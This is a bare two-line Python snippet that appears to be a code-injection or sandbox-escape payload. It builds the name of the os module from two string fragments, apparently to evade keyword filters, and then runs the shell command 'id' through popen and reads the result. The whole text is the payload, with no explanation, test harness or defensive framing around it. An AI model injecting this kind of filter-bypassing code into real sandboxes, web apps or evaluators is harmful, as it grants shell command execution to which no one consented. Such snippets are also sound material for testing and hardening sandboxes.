m = __import__('o' + 's')
m.popen('id').read()
